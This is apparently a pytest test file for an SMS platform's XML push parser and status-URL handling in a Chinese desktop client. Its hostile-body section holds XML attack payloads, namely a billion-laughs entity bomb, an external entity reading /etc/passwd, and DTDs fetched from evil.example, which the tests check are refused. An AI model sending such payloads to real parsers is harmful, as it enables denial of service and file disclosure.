"""push_xml.py: pushes from the platform (samples and hostile variants) and status-URL calls."""

from urllib.parse import parse_qs, urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jianmi_desktop.platform import push_xml as p
from jianmi_desktop.platform.errors import JianmiError
from jianmi_desktop.platform.models import Reply, StatusCall, StatusReport
from tests.support.paths import SAMPLES  # noqa: E402

STATUS = (SAMPLES / "status_push.xml").read_bytes()
MO = (SAMPLES / "mo_push.xml").read_bytes()


def status_body(records: str, kind: str = "1", root: str = "returnForm", decl: str = '<?xml version="1.0" encoding="utf-8"?>') -> bytes:
    return f"{decl}<{root}><type>{kind}</type><count>1</count><list>{records}</list></{root}>".encode()


def record(status="1", mobile="13812345678", msgid="1461822936915", code="DELIVRD", extra=""):
    return (f"<pushStatusForm><eprId>0</eprId><mobile>{mobile}</mobile><msgId>{msgid}</msgId>"
            f"<status>{status}</status><statusCode>{code}</statusCode><userId>u</userId>{extra}</pushStatusForm>")


# --- the samples -------------------------------------------------------------------------

def test_status_sample():
    push = p.parse_push(STATUS)
    assert push.type == 1 and push.replies == ()
    assert push.reports == (StatusReport("1461822936915", "15766208001", False, "UNDELIV", "0", "pangrihui5"),) * 2
    assert push.records == push.reports


def test_reply_sample():
    push = p.parse_push(MO)
    assert push.type == 2 and push.reports == ()
    assert push.replies == (Reply("1461029714745", "15766228295", "新年好。祝协会蓬勃兴旺。多搞活动啊。", "115",
                                  "pangrihui"),) * 2


def test_build_status_push_reproduces_the_sample_byte_for_byte():
    assert p.build_status_push(p.parse_push(STATUS).reports) == STATUS


def test_build_reply_push_matches_the_sample():
    built = p.build_reply_push(p.parse_push(MO).replies)

    def canonical(data: bytes) -> list[str]:
        return [line.strip() for line in data.decode("utf-8").splitlines() if line.strip()]
    assert canonical(built) == canonical(MO)
    assert p.parse_push(built) == p.parse_push(MO)


@settings(max_examples=100)
@given(st.lists(st.builds(
    StatusReport,
    msgid=st.from_regex(r"[0-9]{1,20}", fullmatch=True),
    mobile=st.from_regex(r"1[3-9][0-9]{9}", fullmatch=True),
    delivered=st.booleans(),
    status_code=st.sampled_from(["DELIVRD", "UNDELIV", "EXPIRED", "REJECTD", "MK:0001", "<&>"]),
    epr_id=st.sampled_from(["0", "115"]),
    user_id=st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs", "Cc"]), max_size=10).map(str.strip),
), max_size=200))
def test_status_round_trip(reports):
    assert p.parse_push(p.build_status_push(reports)).reports == tuple(reports)


@settings(max_examples=100)
@given(st.lists(st.builds(
    Reply,
    msgid=st.from_regex(r"[0-9]{1,20}", fullmatch=True),
    mobile=st.from_regex(r"1[3-9][0-9]{9}", fullmatch=True),
    content=st.text(alphabet=st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff")
                    ).map(lambda s: s + "]]>" if len(s) % 2 else s),
), max_size=30))
def test_reply_round_trip(replies):
    parsed = p.parse_push(p.build_reply_push(replies)).replies
    assert [r.content for r in parsed] == [r.content for r in replies]
    assert [(r.msgid, r.mobile) for r in parsed] == [(r.msgid, r.mobile) for r in replies]


def test_builders_refuse_more_than_200():
    report = StatusReport("1", "13812345678", True, "DELIVRD")
    assert p.parse_push(p.build_status_push([report] * 200)).reports == (report,) * 200
    assert b"<eprId></eprId>" in p.build_status_push([report])   # written as given
    with pytest.raises(ValueError):
        p.build_status_push([report] * 201)
    with pytest.raises(ValueError):
        p.build_reply_push([Reply("1", "13812345678", "x")] * 201)
    with pytest.raises(ValueError):
        p.build_reply_push([Reply("1", "13812345678", "bell\x07")])


# --- encodings ---------------------------------------------------------------------------

def test_declared_gbk():
    body = MO.decode("utf-8").replace('encoding="utf-8"', 'encoding="GBK"').encode("gbk")
    assert p.parse_push(body).replies[0].content == "新年好。祝协会蓬勃兴旺。多搞活动啊。"


def test_declared_gb2312_and_bom_and_leading_whitespace():
    body = MO.decode("utf-8").replace('encoding="utf-8"', "encoding='gb2312'").encode("gb2312")
    assert p.parse_push(body).replies[1].content.startswith("新年好")
    assert p.parse_push(b"\xef\xbb\xbf" + STATUS).reports[0].mobile == "15766208001"
    assert p.parse_push(b"\r\n  " + STATUS).type == 1


def test_no_declaration_is_utf8_and_str_accepted():
    body = MO.decode("utf-8").split("?>", 1)[1]
    assert p.parse_push(body.encode("utf-8")).replies[0].content.startswith("新年好")
    assert p.parse_push(MO.decode("utf-8")).type == 2


@pytest.mark.parametrize("body", [
    MO.decode("utf-8").encode("gbk"),                                                    # says utf-8, is GBK
    MO.decode("utf-8").replace('encoding="utf-8"', 'encoding="gbk"').encode("utf-8")[:-30] + b"\xff\xff</returnForm>",
])
def test_wrong_bytes_for_the_encoding(body):
    with pytest.raises(p.PushError):
        p.parse_push(body)


# --- hostile and broken bodies -----------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<returnForm><type>2</type><count>1</count><list><pushSmsForm><mobile>13812345678</mobile>
<msgId>1</msgId><content>&lol9;</content></pushSmsForm></list></returnForm>"""

EXTERNAL = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<returnForm><type>2</type><list><pushSmsForm><mobile>13812345678</mobile><msgId>1</msgId>
<content>&xxe;</content></pushSmsForm></list></returnForm>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>
<returnForm><type>1</type><list/></returnForm>"""

DTD_ONLY = b"""<?xml version="1.0"?><!DOCTYPE returnForm SYSTEM "http://evil.example/r.dtd">
<returnForm><type>1</type><count>0</count><list/></returnForm>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL, PARAMETER_ENTITY, DTD_ONLY],
                         ids=["billion-laughs", "external-entity", "parameter-entity", "dtd"])
def test_dtd_and_entities_refused(body):
    with pytest.raises(p.PushError) as info:
        p.parse_push(body)
    assert "DTD" in info.value.zh or "实体" in info.value.zh


AFTER_COMMENTS = b"""<?xml version="1.0"?><!-- a comment --><?pi something?>
<!DOCTYPE r [<!ENTITY x "13812345678">]>
<returnForm><type>1</type><list/></returnForm>"""

UTF16_DTD = ('<?xml version="1.0" encoding="utf-16"?><!DOCTYPE r [<!ENTITY x "1">]>'
             "<returnForm><type>1</type><list/></returnForm>").encode("utf-16")

GBK_DTD = ('<?xml version="1.0" encoding="gbk"?><!DOCTYPE r [<!ENTITY x "退订">]>'
           "<returnForm><type>2</type><list><pushSmsForm><mobile>13812345678</mobile><msgId>1</msgId>"
           "<content>&x;</content></pushSmsForm></list></returnForm>").encode("gbk")


@pytest.mark.parametrize("body", [AFTER_COMMENTS, UTF16_DTD, GBK_DTD], ids=["after-comments", "utf-16", "gbk"])
def test_a_dtd_anywhere_before_the_root_is_refused_in_any_encoding(body):
    with pytest.raises(p.PushError) as info:
        p.parse_push(body)
    assert "DTD" in info.value.zh


@pytest.mark.parametrize("body", [
    b"<returnForm><type>1</type><list/></returnForm><!DOCTYPE r [<!ENTITY x 'y'>]>",
    b"<returnForm><type>2</type><list><pushSmsForm><mobile>13812345678</mobile><msgId>1</msgId>"
    b"<content>&x;</content></pushSmsForm></list></returnForm>",
    b"<returnForm><type>1</type><list><!DOCTYPE r></list></returnForm>",
], ids=["dtd-after-root", "undeclared-entity", "dtd-inside-root"])
def test_no_dtd_can_follow_the_root_and_no_entity_exists_without_one(body):
    with pytest.raises(p.PushError) as info:
        p.parse_push(body)
    assert "不是有效的 XML" in info.value.zh


def test_predefined_entities_and_character_references_still_read():
    body = (b"<returnForm><type>2</type><list><pushSmsForm><mobile>13812345678</mobile><msgId>1</msgId>"
            b"<content>A&amp;B &lt;T&gt; &#36864;&#x8BA2;</content></pushSmsForm></list></returnForm>")
    assert p.parse_push(body).replies[0].content == "A&B <T> 退订"


def test_fifty_megabytes_refused_before_parsing():
    body = STATUS[:-20] + b" " * (50 * 1024 * 1024) + STATUS[-20:]
    with pytest.raises(p.PushError) as info:
        p.parse_push(body)
    assert "太大" in info.value.zh


def test_size_limit_is_exact():
    padding = p.MAX_PUSH_BYTES - len(STATUS)
    at_limit = STATUS.replace(b"<list>", b"<list>" + b" " * padding, 1)
    assert len(at_limit) == p.MAX_PUSH_BYTES
    assert p.parse_push(at_limit).type == 1
    with pytest.raises(p.PushError):
        p.parse_push(at_limit + b" ")


BROKEN = {
    "empty": b"",
    "spaces": b"  \r\n ",
    "truncated": STATUS[: len(STATUS) // 2],
    "garbage": b"\x00\x01\x02 not xml",
    "html": b"<html><body>hi</body></html>",
    "wrong root": STATUS.replace(b"returnForm", b"statusForm"),
    "no type": STATUS.replace(b"<type>1</type>", b""),
    "type 3": STATUS.replace(b"<type>1</type>", b"<type>3</type>"),
    "type word": STATUS.replace(b"<type>1</type>", b"<type>one</type>"),
    "bad count": STATUS.replace(b"<count>2</count>", b"<count>two</count>"),
    "no list": status_body("").replace(b"<list></list>", b""),
    "status 2": status_body(record(status="2")),
    "status empty": status_body(record(status="")),
    "no status": status_body(record().replace("<status>1</status>", "")),
    "no mobile": status_body(record().replace("<mobile>13812345678</mobile>", "")),
    "bad mobile": status_body(record(mobile="138abc")),
    "no msgid": status_body(record().replace("<msgId>1461822936915</msgId>", "")),
    "bad msgid": status_body(record(msgid="12ab")),
    "nested field": status_body(record(mobile="<b>13812345678</b>")),
    "wrong record tag": status_body(record().replace("pushStatusForm", "pushSmsForm")),
    "reply under type 1": STATUS.replace(b"pushStatusForm", b"pushSmsForm"),
    "status under type 2": MO.replace(b"pushSmsForm", b"pushStatusForm"),
    "reply without content": MO.replace(b"<content><![CDATA[", b"<x><![CDATA[").replace(b"]]></content>", b"]]></x>"),
    "201 records": status_body(record() * 201),
    "unknown encoding": STATUS.replace(b"utf-8", b"x-nonsense", 1),
    "unclosed cdata": b"</content>".join(MO.rsplit(b"]]></content>", 1)),
}


@pytest.mark.parametrize("body", list(BROKEN.values()), ids=list(BROKEN))
def test_broken_pushes_raise_push_error(body):
    with pytest.raises(p.PushError) as info:
        p.parse_push(body)
    assert isinstance(info.value, JianmiError)
    assert info.value.zh and info.value.en
    assert any("\u4e00" <= ch <= "\u9fff" for ch in info.value.zh)   # a plain Chinese message


def test_two_hundred_records_accepted_and_optional_fields():
    push = p.parse_push(status_body(record() * 200))
    assert len(push.reports) == 200 and all(r.delivered for r in push.reports)
    bare = "<pushStatusForm><mobile> 13812345678 </mobile><msgId>7</msgId><status>0</status></pushStatusForm>"
    report = p.parse_push(status_body(bare)).reports[0]
    assert report == StatusReport("7", "13812345678", False, "", "", "")


def test_intl_report_and_empty_msgid_and_empty_reply():
    report = p.parse_push(status_body(record(mobile="85291234567", msgid=""))).reports[0]
    assert report.mobile == "85291234567" and report.msgid == ""
    empty = b'<returnForm><type>2</type><list><pushSmsForm><mobile>13812345678</mobile><msgId>1</msgId>' \
            b'<content></content></pushSmsForm></list></returnForm>'
    assert p.parse_push(empty).replies[0].content == ""


def test_empty_list_is_an_empty_push():
    push = p.parse_push(b"<returnForm><type>1</type><count>0</count><list/></returnForm>")
    assert push.type == 1 and push.reports == () and push.replies == ()


@settings(max_examples=300)
@given(st.binary(max_size=300))
def test_fuzz_only_push_error(body):
    try:
        p.parse_push(body)
    except p.PushError:
        pass


@settings(max_examples=200)
@given(st.integers(min_value=0, max_value=len(STATUS) - 1), st.binary(min_size=1, max_size=5))
def test_fuzz_mutated_sample(position, junk):
    body = STATUS[:position] + junk + STATUS[position + 1:]
    try:
        push = p.parse_push(body)
    except p.PushError:
        return
    assert push.type in (1, 2)


# --- status-URL calls --------------------------------------------------------------------

def test_parse_status_call():
    call = p.parse_status_call({"mobile": "13812345678", "taskid": "10218", "status": "2",
                                "receiveTime": "2014-05-26 17:00:12", "a": "mine"})
    assert call == StatusCall("10218", "13812345678", 2, "2014-05-26 17:00:12")
    # the source's table spells it taskId; parse_qs gives lists
    call = p.parse_status_call({"mobile": ["13812345678"], "taskId": ["9"], "status": ["3"]})
    assert call == StatusCall("9", "13812345678", 3, "")


@pytest.mark.parametrize("query", [
    {}, {"taskid": "1", "status": "2"}, {"mobile": "13812345678", "status": "2"},
    {"mobile": "13812345678", "taskid": "1"}, {"mobile": "13812345678", "taskid": "1", "status": "1"},
    {"mobile": "13812345678", "taskid": "1", "status": "x"}, {"mobile": "abc", "taskid": "1", "status": "2"},
    {"mobile": "13812345678", "taskid": "a b", "status": "2"},
    {"mobile": "13812345678", "taskid": "1", "status": "2", "receiveTime": "x" * 41},
])
def test_parse_status_call_refuses(query):
    with pytest.raises(p.PushError) as info:
        p.parse_status_call(query)
    assert info.value.zh and info.value.en


@pytest.mark.parametrize("base, own", [
    ("http://www.xxxxx.com/GetMMSStatus", {}),
    ("http://h:8080/status?user=7&tag=a%20b", {"user": ["7"], "tag": ["a b"]}),
    ("https://h/s?x=1#frag", {"x": ["1"]}),
])
def test_status_call_url_round_trip(base, own):
    call = StatusCall("10218", "13812345678", 2, "2014-05-26 17:00:12")
    url = p.status_call_url(base, call)
    parts = urlsplit(url)
    base_parts = urlsplit(base)
    assert (parts.scheme, parts.netloc, parts.path, parts.fragment) == (
        base_parts.scheme, base_parts.netloc, base_parts.path, base_parts.fragment)
    query = parse_qs(parts.query, keep_blank_values=True)
    for name, values in own.items():
        assert query[name] == values
    assert "receiveTime=2014-05-26%2017:00:12" in url     # as API.md shows it
    flat = {k: v[0] for k, v in query.items()}
    assert p.parse_status_call(flat) == call


def test_deep_nesting_is_refused_cleanly():
    depth = 200_000
    body = b"<returnForm><type>1</type><list>" + b"<a>" * depth + b"</a>" * depth + b"</list></returnForm>"
    assert len(body) < p.MAX_PUSH_BYTES
    with pytest.raises(p.PushError):
        p.parse_push(body)


def test_many_attributes_and_long_text_within_limit():
    body = status_body(record(code="X" * 1_000_000))
    assert p.parse_push(body).reports[0].status_code == "X" * 1_000_000
